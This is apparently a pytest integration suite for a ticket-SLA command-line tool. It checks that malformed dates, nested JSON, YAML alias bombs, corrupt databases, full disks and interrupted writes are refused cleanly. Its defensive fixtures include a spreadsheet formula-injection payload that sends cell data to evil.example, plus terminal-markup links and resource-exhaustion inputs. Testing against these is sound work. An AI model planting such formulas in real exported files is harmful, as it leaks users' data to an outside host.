"""Hostile and careless input, run through the `sla` command line: one bad cell rejects its row and the rest
loads; a file or database that cannot be used is refused in one line; nothing ends in a traceback and no
stored row is lost or changed.
"""

from __future__ import annotations

import errno
import json
import os
import resource
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sla_store.cli import app
from sla_store.db import copy_database
from tests.integration.conftest import CONFIG, MAPPINGS, REPO, query

HEADER = "Id,Created at,Solved at,Via,Group,Priority,Status,First reply time in minutes"
GOOD_ROWS = [
    "G1,2026-03-02 09:00:00 +0100,2026-03-02 12:00:00 +0100,Mail,Billing,High,Solved,30",
    "G2,2026-03-03 09:00:00,2026-03-03 11:00:00,Chat,Accounts,Normal,Solved,2.5",
]
STORED_ROWS = [
    "S1,2026-02-02 09:00:00 +0100,2026-02-02 12:00:00 +0100,Mail,Billing,High,Solved,30",
    "S2,2026-02-03 09:00:00,,Phone,Accounts,Low,Open,",
]
ENV = {**os.environ, "SLA_NOW": "2026-04-01T00:00:00+00:00"}


def _snapshot(db: Path) -> tuple:
    return (
        query(db, "SELECT * EXCLUDE (import_id) FROM items ORDER BY source, item_id"),
        query(db, "SELECT * EXCLUDE (import_id) FROM events ORDER BY ALL"),
        query(db, "SELECT * EXCLUDE (import_id) FROM rejected_rows ORDER BY ALL"),
        query(db, "SELECT count(*) FROM imports"),
    )


@pytest.fixture(scope="module")
def stored_db(tmp_path_factory) -> Path:
    """A database holding two tickets from an earlier import."""
    folder = tmp_path_factory.mktemp("stored")
    export = folder / "earlier.csv"
    export.write_text("\n".join([HEADER, *STORED_ROWS]) + "\n")
    db = folder / "sla.duckdb"
    result = CliRunner().invoke(app, ["ingest", str(export), "--format", "zendesk", "--db", str(db),
                                      "--config", str(CONFIG)], env=ENV)
    assert result.exit_code == 0, result.output
    return db


@pytest.fixture
def db(stored_db, tmp_path) -> Path:
    copy = tmp_path / "db" / "sla.duckdb"
    copy.parent.mkdir()
    copy_database(stored_db, copy)
    return copy


def sla(*args: str):
    return CliRunner().invoke(app, [*args], env=ENV)


def assert_one_line_error(result, *needles: str, prefix: str = "error: ") -> None:
    """Exit 2, one line on stderr starting with `error:`, no Python exception escaped."""
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 2, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(prefix), result.stderr
    assert "Traceback" not in result.output
    for needle in needles:
        assert needle in lines[0], lines[0]


# ---- one bad cell never blocks a file -------------------------------------------------------------------

@dataclass(frozen=True)
class BadRow:
    name: str
    row: str
    reason: str


BAD_ROWS = [
    BadRow("placeholder date 0001-01-01", "B1,0001-01-01,,Mail,Billing,High,Open,",
           "year out of range (1900-2199) in column 'Created at': 0001-01-01"),
    BadRow("year 9999", "B1,9999-12-31 23:59:59,,Mail,Billing,High,Open,",
           "year out of range (1900-2199) in column 'Created at'"),
    BadRow("year 0001 in a milestone", "B1,2026-03-02 09:00:00,0001-01-01 00:00:00 +0000,Mail,Billing,High,Solved,",
           "year out of range (1900-2199) in column 'Solved at'"),
    BadRow("reply minutes NaN", "B1,2026-03-02 09:00:00,,Mail,Billing,High,Open,NaN",
           "minutes out of range in column 'First reply time in minutes': NaN"),
    BadRow("reply minutes inf", "B1,2026-03-02 09:00:00,,Mail,Billing,High,Open,inf",
           "minutes out of range in column 'First reply time in minutes': inf"),
    BadRow("reply minutes -inf", "B1,2026-03-02 09:00:00,,Mail,Billing,High,Open,-inf",
           "minutes out of range in column 'First reply time in minutes': -inf"),
    BadRow("reply minutes 1e12", "B1,2026-03-02 09:00:00,,Mail,Billing,High,Open,1e12",
           "minutes out of range in column 'First reply time in minutes': 1e12"),
    BadRow("reply minutes past 2199", "B1,2026-03-02 09:00:00,,Mail,Billing,High,Open,99999999",
           "minutes out of range in column 'First reply time in minutes': 99999999"),
    BadRow("30 February with an offset", "B1,2024-02-30 10:00 +0100,,Mail,Billing,High,Open,",
           "unparseable time in column 'Created at': 2024-02-30 10:00 +0100"),
    BadRow("31 April with Z", "B1,2024-04-31T10:00:00Z,,Mail,Billing,High,Open,",
           "unparseable time in column 'Created at': 2024-04-31T10:00:00Z"),
    BadRow("offset +2500", "B1,2026-03-02 10:00 +2500,,Mail,Billing,High,Open,",
           "unparseable time in column 'Created at': 2026-03-02 10:00 +2500"),
    BadRow("offset -1961", "B1,2026-03-02 10:00:00 -1961,,Mail,Billing,High,Open,",
           "unparseable time in column 'Created at': 2026-03-02 10:00:00 -1961"),
]


@pytest.mark.parametrize("case", BAD_ROWS, ids=[case.name for case in BAD_ROWS])
def test_a_bad_cell_rejects_its_row_with_line_column_and_reason_and_the_rest_loads(case, db, tmp_path):
    before = _snapshot(db)
    export = tmp_path / "export.csv"
    export.write_text("\n".join([HEADER, GOOD_ROWS[0], case.row, GOOD_ROWS[1]]) + "\n")
    result = sla("ingest", str(export), "--format", "zendesk", "--db", str(db), "--config", str(CONFIG), "--json")
    assert result.exception is None and result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert (summary["rows_loaded"], summary["rows_rejected"]) == (2, 1)
    import_id = summary["import_id"]
    assert query(db, "SELECT line, reason FROM rejected_rows WHERE import_id = ?", [import_id]) == [
        (3, query(db, "SELECT reason FROM rejected_rows WHERE import_id = ?", [import_id])[0][0])]
    reason = query(db, "SELECT reason FROM rejected_rows WHERE import_id = ?", [import_id])[0][0]
    assert case.reason in reason
    ids = [row[0] for row in query(db, "SELECT item_id FROM items ORDER BY 1")]
    assert ids == ["G1", "G2", "S1", "S2"]
    # Stored rows from the earlier import are untouched; every stored time lies in the sane range.
    assert [row for row in _snapshot(db)[0] if row[1].startswith("S")] == before[0]
    assert query(db, "SELECT count(*) FROM items WHERE created < '1900-01-01' OR created >= '2200-01-01' "
                     "OR first_response >= '2200-01-01' OR resolved >= '2200-01-01'") == [(0,)]
    assert query(db, "SELECT count(*) FROM results WHERE item_id = 'B1'") == [(0,)]


def test_a_placeholder_year_in_an_event_log_rejects_only_that_event(db, tmp_path):
    export = tmp_path / "events.csv"
    export.write_text("Case ID,Activity,Timestamp,Team,Process\n"
                      "L1,submitted,2026-03-02 10:00:00,Growth Ops,leads\n"
                      "L1,scored,0001-01-01 00:00:00,Growth Ops,leads\n"
                      "L2,submitted,2026-03-02 11:00:00,Growth Ops,leads\n")
    result = sla("ingest", str(export), "--format", "events", "--db", str(db), "--config", str(CONFIG), "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["rows_rejected"] == 1
    assert query(db, "SELECT line, reason FROM rejected_rows WHERE reason LIKE '%Timestamp%'") == [
        (3, "year out of range (1900-2199) in column 'Timestamp': 0001-01-01 00:00:00")]


def test_json_with_mixed_types_loads_every_value_as_text_and_rejects_the_unusable_row(db, tmp_path):
    tickets = [
        {"id": 1, "created_at": "2026-03-02T09:00:00Z", "via": {"channel": "email"}, "group_id": 360001,
         "priority": "high", "status": "open", "metric_set": {"reply_time_in_minutes": {"calendar": 5}}},
        {"id": "abc", "created_at": 5, "via": "email", "group_id": [1, 2], "priority": {"a": 1},
         "status": "open", "metric_set": {"reply_time_in_minutes": {"calendar": "x"}}},
        {"id": 3.5, "created_at": "2026-03-02T09:00:00Z", "via": {"channel": ["a", {"b": 1}]}, "group_id": True,
         "priority": None, "status": "open", "metric_set": {"reply_time_in_minutes": {"calendar": [1]}}},
    ]
    export = tmp_path / "tickets.json"
    export.write_text(json.dumps({"tickets": tickets}))
    result = sla("ingest", str(export), "--mapping", str(MAPPINGS / "zendesk_json.yaml"), "--db", str(db),
                 "--config", str(CONFIG), "--json")
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert (summary["rows_loaded"], summary["rows_rejected"]) == (2, 1)
    assert query(db, "SELECT line, reason FROM rejected_rows WHERE import_id = ?", [summary["import_id"]]) == [
        (2, "unparseable time in column 'created_at': 5")]
    assert query(db, "SELECT item_id, team FROM items WHERE source = 'zendesk' AND item_id IN ('1', '3.5') "
                     "ORDER BY 1") == [("1", "Billing"), ("3.5", "true")]


def test_a_utf16_csv_with_a_byte_order_mark_loads(db, tmp_path):
    export = tmp_path / "unicode.csv"
    export.write_text("\n".join([HEADER, *GOOD_ROWS]).replace(",", "\t") + "\n", encoding="utf-16")
    result = sla("ingest", str(export), "--db", str(db), "--config", str(CONFIG), "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["rows_loaded"] == 2


# ---- whole-file problems: one clear line, the database as it was ----------------------------------------

def _deep_json(path: Path) -> None:
    path.write_text('{"tickets": [{"id": 1, "x": ' + "[" * 100_000 + "]" * 100_000 + "}]}")


def _nested_objects(path: Path) -> None:
    path.write_text('{"tickets": [{"id": 1, "x": ' + '{"a": ' * 200 + "1" + "}" * 200 + "}]}")


def _latin1_json(path: Path) -> None:
    path.write_bytes('[{"id": 1, "subject": "caf\u00e9", "created_at": "2026-03-02T09:00:00Z"}]'.encode("latin-1"))


def _records_not_objects(path: Path) -> None:
    path.write_text('{"tickets": [{"id": 1, "created_at": "2026-03-02T09:00:00Z"}, 3, "x"]}')


def _utf16_without_mark(path: Path) -> None:
    path.write_bytes(("\n".join([HEADER, *GOOD_ROWS]) + "\n").encode("utf-16-be"))


def _binary(path: Path) -> None:
    path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 64)


def _huge_cell(path: Path) -> None:
    with path.open("w") as handle:
        handle.write(HEADER + "\n" + GOOD_ROWS[0] + "\n")
        handle.write('B1,2026-03-02 09:00:00,,Mail,Billing,High,Open,"' + "x" * 50_000_000 + '"\n')
        handle.write(GOOD_ROWS[1] + "\n")


FILE_CASES = {
    "deeply nested JSON arrays": ("tickets.json", _deep_json, ["nested deeper than"]),
    "deeply nested JSON objects": ("tickets.json", _nested_objects, ["nested deeper than 32 levels"]),
    "latin-1 JSON": ("tickets.json", _latin1_json, ["not UTF-8 text (byte 0xe9", "save the file as UTF-8"]),
    "JSON records that are not objects": ("tickets.json", _records_not_objects, ["record 2 is int 3"]),
    "UTF-16 without byte-order mark": ("export.csv", _utf16_without_mark, ["is UTF-16"]),
    "a binary file named .csv": ("export.csv", _binary, ["not a text CSV file"]),
    "a 50 MB cell": ("export.csv", _huge_cell, ["line 3 is 50 MB long"]),
}


@pytest.mark.parametrize("name", list(FILE_CASES))
@pytest.mark.parametrize("sniffed", [False, True], ids=["given format", "sniffed"])
def test_a_file_that_cannot_load_is_refused_in_one_line_leaving_the_database_as_it_was(name, sniffed, db,
                                                                                       tmp_path):
    file_name, write, needles = FILE_CASES[name]
    export = tmp_path / file_name
    write(export)
    before, raw_before = _snapshot(db), db.read_bytes()
    how = [] if sniffed else (["--mapping", str(MAPPINGS / "zendesk_json.yaml")] if file_name.endswith(".json")
                              else ["--format", "zendesk"])
    result = sla("ingest", str(export), *how, "--db", str(db), "--config", str(CONFIG))
    assert_one_line_error(result, str(export), *needles)
    assert "missing columns" not in result.stderr
    assert db.read_bytes() == raw_before and _snapshot(db) == before


# ---- databases that cannot be used -----------------------------------------------------------------------

def _corrupt(db: Path) -> Path:
    db.write_bytes(os.urandom(64_000))
    return db


def _folder(db: Path) -> Path:
    folder = db.parent / "folder.duckdb"
    folder.mkdir()
    return folder


COMMANDS = {
    "ingest": lambda db, export: ["ingest", str(export), "--format", "zendesk", "--db", str(db), "--config",
                                  str(CONFIG)],
    "recompute": lambda db, export: ["recompute", "--db", str(db), "--config", str(CONFIG)],
    "attainment": lambda db, export: ["attainment", "--db", str(db)],
    "check": lambda db, export: ["check", "--db", str(db), "--config", str(CONFIG)],
    "report": lambda db, export: ["report", "--month", "2026-03", "--db", str(db), "--out",
                                  str(export.with_suffix(".html"))],
    "simulate": lambda db, export: ["simulate", "--proposed", str(CONFIG / "sla.yaml"), "--db", str(db),
                                    "--config", str(CONFIG)],
}


@pytest.mark.parametrize("command", list(COMMANDS))
@pytest.mark.parametrize("damage, needle", [(_corrupt, "not a DuckDB database file"),
                                            (_folder, "is a folder, not a database file")],
                         ids=["corrupt", "folder"])
def test_a_corrupt_file_or_a_folder_as_db_is_refused_in_one_line(command, damage, needle, db, tmp_path):
    bad = damage(db)
    raw_before = bad.read_bytes() if bad.is_file() else None
    export = tmp_path / "export.csv"
    export.write_text("\n".join([HEADER, *GOOD_ROWS]) + "\n")
    result = sla(*COMMANDS[command](bad, export))
    assert_one_line_error(result, f"{bad}: {needle}")
    assert ".tmp" not in result.stderr  # the message names the live file, not a writer's private copy
    if raw_before is not None:
        assert bad.read_bytes() == raw_before
    assert not list(bad.parent.glob(".*.tmp*"))


@pytest.mark.parametrize("failure, needle", [
    (OSError(errno.EACCES, "Permission denied"), "no permission to write in its folder"),
    (OSError(errno.EROFS, "Read-only file system"), "no permission to write in its folder"),
    (OSError(errno.ENOSPC, "No space left on device"), "the disk is full"),
], ids=["read-only folder", "read-only file system", "full disk"])
@pytest.mark.parametrize("step", ["sla_store.db.tempfile.mkstemp", "sla_store.db.shutil.copyfile",
                                  "sla_store.db.os.replace"])
def test_a_folder_or_disk_that_cannot_take_the_write_is_refused_in_one_line(failure, needle, step, db, tmp_path,
                                                                            monkeypatch):
    export = tmp_path / "export.csv"
    export.write_text("\n".join([HEADER, *GOOD_ROWS]) + "\n")
    before, raw_before = _snapshot(db), db.read_bytes()

    def refuse(*args, **kwargs):
        raise failure

    monkeypatch.setattr(step, refuse)
    result = sla(*COMMANDS["ingest"](db, export))
    monkeypatch.undo()
    assert_one_line_error(result, f"{db}: {needle}")
    assert db.read_bytes() == raw_before and _snapshot(db) == before
    assert not list(db.parent.glob(".*.tmp*"))


def _limit_file_size() -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))


def test_a_full_disk_during_a_real_write_is_refused_in_one_line(db, tmp_path):
    """The file-size limit (ulimit -f) makes every write past 200 kB fail as a full disk would."""
    export = tmp_path / "export.csv"
    export.write_text("\n".join([HEADER, *GOOD_ROWS]) + "\n")
    assert db.stat().st_size > 200_000
    before, raw_before = _snapshot(db), db.read_bytes()
    done = subprocess.run([sys.executable, "-m", "sla_store.cli", *COMMANDS["ingest"](db, export)],
                          capture_output=True, text=True, cwd=REPO, env=ENV, preexec_fn=_limit_file_size,
                          timeout=120, check=False)
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip().splitlines() == [f"error: {db}: the disk is full (no space left to write the new copy)"]
    assert db.read_bytes() == raw_before and _snapshot(db) == before
    assert not list(db.parent.glob(".*.tmp*"))


@pytest.mark.parametrize("month", ["9999-12", "0001-01", "10000-01", "2026-13"])
def test_a_report_month_out_of_range_is_refused_in_one_line(month, db, tmp_path):
    result = sla("report", "--month", month, "--db", str(db), "--out", str(tmp_path / "r.html"))
    assert_one_line_error(result, f"--month '{month}'")
    assert not (tmp_path / "r.html").exists()


# ---- faults: a killed writer, Ctrl-C ---------------------------------------------------------------------

WRITER = """
import sys, time
from sla_store.db import write_transaction
with write_transaction(sys.argv[1]) as con:
    con.execute("INSERT INTO items (source, item_id, kind, created) VALUES ('w', ?, 'ticket', now())", [sys.argv[2]])
    print("ready", flush=True)
    time.sleep(float(sys.argv[3]))
print("done", flush=True)
"""


def _writer(db: Path, item_id: str, seconds: float) -> subprocess.Popen:
    writer = subprocess.Popen([sys.executable, "-c", WRITER, str(db), item_id, str(seconds)], cwd=REPO, env=ENV,
                              stdout=subprocess.PIPE, text=True)
    assert writer.stdout.readline().strip() == "ready"
    return writer


def _copies(db: Path) -> list[Path]:
    return sorted(db.parent.glob(f".{db.name}.*"))


def test_copies_left_by_writers_killed_with_kill_9_are_removed_by_the_next_write(db, tmp_path):
    before = _snapshot(db)
    for number in range(3):
        writer = _writer(db, f"killed{number}", 60)
        writer.kill()  # SIGKILL: no finally clause runs
        writer.wait()
        # Each writer removed the copy the one killed before it left: only the last killed one's remains.
        left = [copy for copy in _copies(db) if not copy.name.endswith(".wal")]
        assert len(left) == 1 and left[0].stat().st_size >= db.stat().st_size // 2
    assert _snapshot(db) == before  # the killed writers changed nothing
    export = tmp_path / "export.csv"
    export.write_text("\n".join([HEADER, *GOOD_ROWS]) + "\n")
    result = sla(*COMMANDS["ingest"](db, export))
    assert result.exit_code == 0, result.output
    assert _copies(db) == []
    assert [row[1] for row in query(db, "SELECT source, item_id FROM items ORDER BY 2")] == ["G1", "G2", "S1", "S2"]


def test_the_next_write_waits_for_a_running_writer_and_keeps_its_copy(db, tmp_path):
    running = _writer(db, "concurrent", 3)
    assert len(_copies(db)) == 1  # the running writer's private copy
    export = tmp_path / "export.csv"
    export.write_text("\n".join([HEADER, *GOOD_ROWS]) + "\n")
    result = sla(*COMMANDS["ingest"](db, export))  # blocks on the lock until the running writer swaps
    assert running.wait(timeout=60) == 0 and running.stdout.read().strip() == "done"
    assert result.exit_code == 0, result.output
    assert [row[0] for row in query(db, "SELECT item_id FROM items ORDER BY 1")] == [
        "G1", "G2", "S1", "S2", "concurrent"]
    assert _copies(db) == []


@pytest.fixture(scope="module")
def large_export(tmp_path_factory) -> Path:
    from datetime import UTC, datetime

    from sla_store.sample import write_ticket_csv
    from sla_store.sample_tickets import generate_tickets

    path = tmp_path_factory.mktemp("large") / "tickets.csv"
    frame, _ = generate_tickets(40_000, seed=7, now=datetime(2026, 3, 31, tzinfo=UTC))
    write_ticket_csv(frame, path)
    return path


def _wait_until_reading(process: subprocess.Popen, path: Path, timeout_s: float = 60) -> bool:
    """Poll the process's open files (Linux /proc) until it has `path` open."""
    import time

    fds = Path(f"/proc/{process.pid}/fd")
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline and process.poll() is None:
        try:
            if any(os.path.realpath(fd) == str(path.resolve()) for fd in fds.iterdir()):
                return True
        except OSError:
            pass
        time.sleep(0.005)
    return False


def _default_sigint() -> None:
    import signal

    signal.signal(signal.SIGINT, signal.SIG_DFL)


@pytest.mark.parametrize("moment", ["while loading", "during the write"])
def test_ctrl_c_ends_the_cli_with_one_line_and_leaves_the_database_as_it_was(moment, db, large_export):
    import signal
    import time

    before, raw_before = _snapshot(db), db.read_bytes()
    command = [sys.executable, "-m", "sla_store.entry", *COMMANDS["ingest"](db, large_export)]
    process = subprocess.Popen(command, cwd=REPO, env=ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True, preexec_fn=_default_sigint)
    if moment == "while loading":
        # a fixed sleep can land before the interpreter has started on a busy machine: wait for the read
        assert _wait_until_reading(process, large_export), "the import never opened the export"
    else:
        deadline = time.monotonic() + 60
        while not _copies(db) and time.monotonic() < deadline and process.poll() is None:
            time.sleep(0.01)
        assert _copies(db), "the write never started"
        time.sleep(0.2)
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=120)
    # 130, or killed by SIGINT (Python re-raises it after a message when the signal lands during shutdown)
    assert process.returncode in (130, -signal.SIGINT), stderr
    assert stderr.strip().splitlines() == [
        "error: interrupted: the database is unchanged (a write in progress was discarded)"]
    assert db.read_bytes() == raw_before and _snapshot(db) == before
    assert _copies(db) == []


# ---- a failed webhook never prints its credentials -------------------------------------------------------

@pytest.mark.parametrize("url", [
    "http://alice:s3cr3t-pw@127.0.0.1:9/hooks/T01ABCDEF/B02GHIJKL/abcdEFGH1234ijklMNOP5678?token=s3cr3t-q#s3cr3t-f",
    "http://127.0.0.1:9/hook?api_key=s3cr3t-q&x=1",
])
def test_a_failed_webhook_post_prints_the_url_without_credentials_or_query(url, stored_db):
    result = sla("check", "--db", str(stored_db), "--config", str(CONFIG), "--now", "2026-02-04T12:00:00Z",
                 "--webhook", url, "--retries", "1", "--timeout", "0.5")
    assert_one_line_error(result, "webhook http://127.0.0.1:9/")
    assert "s3cr3t" not in result.output and "alice" not in result.output and "abcdEFGH1234" not in result.output


def test_an_invalid_webhook_url_is_refused_without_its_credentials(stored_db):
    result = sla("check", "--db", str(stored_db), "--config", str(CONFIG), "--webhook",
                 "ftp://alice:s3cr3t@example.com/x?token=s3cr3t")
    assert_one_line_error(result, "ftp://example.com/x")
    assert "s3cr3t" not in result.output


# ---- hostile policy files ----------------------------------------------------------------------------------

def _policy_cases() -> dict[str, tuple[str, str]]:
    from tests.unit.test_policy_file_limits import BOMB, MINIMAL

    return {
        "duplicate key": (MINIMAL + "objective: 0.5\n", ":10: objective: duplicate key"),
        "within 0s": (MINIMAL.replace("within: 2h", "within: 0s"), ':9: targets[0].within: "0s" is no time'),
        "within beyond 365d": (MINIMAL.replace("within: 2h", "within: 99999999999999999999d"),
                               ":9: targets[0].within: \"99999999999999999999d\" is more than 365d"),
        "objective 0": (MINIMAL.replace("objective: 0.95", "objective: 0"), ":3: objective: 0 must be above 0"),
        "alias bomb": (BOMB, ": f: aliases expand to more than 100,000 values"),
        "deep nesting": ("x: " + "[" * 50_000 + "]" * 50_000, ":1: nested deeper than 12 levels"),
        "oversized": (MINIMAL + "# " + "x" * 1_100_000 + "\n", "a policy file holds at most 1,000,000"),
        "latin-1": (None, "not UTF-8 text (byte 0xe9"),
    }


@pytest.mark.timeout(60)
@pytest.mark.parametrize("case", list(_policy_cases()))
@pytest.mark.parametrize("command", ["policy validate", "recompute"])
def test_a_hostile_policy_file_is_refused_in_one_line_and_changes_nothing(case, command, db, tmp_path):
    text, needle = _policy_cases()[case]
    config = tmp_path / "config"
    shutil.copytree(CONFIG, config)
    policy = config / "sla.yaml"
    if text is None:
        policy.write_bytes(("# caf\u00e9\n" + (CONFIG / "sla.yaml").read_text()).encode("latin-1"))
    else:
        policy.write_text(text)
    before, raw_before = _snapshot(db), db.read_bytes()
    if command == "recompute":
        result = sla("recompute", "--db", str(db), "--config", str(config))
    else:
        result = sla("policy", "validate", str(policy))
    # `sla policy validate` prints the bare "file:line: key: message" a pre-commit hook shows.
    assert_one_line_error(result, needle, prefix="" if command == "policy validate" else "error: ")
    assert "sla.yaml" in result.stderr
    assert db.read_bytes() == raw_before and _snapshot(db) == before


# ---- the CSVs the command line writes -----------------------------------------------------------------------

def test_the_report_csv_and_the_flips_csv_hold_no_formula_cell(db, tmp_path):
    from sla_core.safe_csv import formula_cells

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    export = tmp_path / "export.csv"
    rows = [f'H{n},2026-03-0{1 + n % 5} 09:00:00,2026-03-0{1 + n % 5} 1{n % 10}:00:00,Mail,"{hostile.replace(chr(34), 2 * chr(34))}",'
            f"High,Solved,{n}" for n in range(30)]
    export.write_text("\n".join([HEADER, *rows]) + "\n")
    loaded = sla("ingest", str(export), "--format", "zendesk", "--db", str(db), "--config", str(CONFIG), "--json")
    assert loaded.exit_code == 0 and json.loads(loaded.stdout)["rows_loaded"] == 30, loaded.output
    assert query(db, "SELECT count(*) FROM results WHERE team = ?", [hostile])[0][0] > 0

    report = sla("report", "--month", "2026-03", "--db", str(db), "--out", str(tmp_path / "report.html"))
    assert report.exit_code == 0, report.output
    report_csv = (tmp_path / "report.csv").read_text()
    assert "'=HYPERLINK" in report_csv and formula_cells(report_csv) == []

    proposed = tmp_path / "proposed.yaml"
    proposed.write_text((CONFIG / "sla.yaml").read_text().replace("priority: high}, within: 4h", "priority: high}, within: 1m"))
    flips = tmp_path / "flips.csv"
    simulated = sla("simulate", "--proposed", str(proposed), "--db", str(db), "--config", str(CONFIG),
                    "--by", "team", "--flips-csv", str(flips))
    assert simulated.exit_code == 0, simulated.output
    flips_csv = flips.read_text()
    assert "'=HYPERLINK" in flips_csv and formula_cells(flips_csv) == []


@pytest.mark.parametrize("team", ["[/bold] closes nothing", "[link=http://evil.example]click[/link]", "[red]x"])
def test_team_names_that_look_like_terminal_markup_print_as_typed(team, db, tmp_path):
    export = tmp_path / "export.csv"
    quoted = team.replace('"', '""')
    export.write_text(f'{HEADER}\nM1,2026-03-02 09:00:00,2026-03-02 10:00:00,Mail,"{quoted}",High,Solved,5\n')
    assert sla("ingest", str(export), "--format", "zendesk", "--db", str(db), "--config", str(CONFIG)).exit_code == 0
    shown = CliRunner().invoke(app, ["attainment", "--by", "team", "--db", str(db)], env={**ENV, "COLUMNS": "400"})
    assert shown.exit_code == 0 and shown.exception is None, shown.output
    assert team in shown.stdout
    proposed = tmp_path / "proposed.yaml"
    proposed.write_text((CONFIG / "sla.yaml").read_text())
    simulated = sla("simulate", "--proposed", str(proposed), "--db", str(db), "--config", str(CONFIG), "--by", "team")
    assert simulated.exit_code == 0 and simulated.exception is None, simulated.output
    assert "Traceback" not in simulated.output
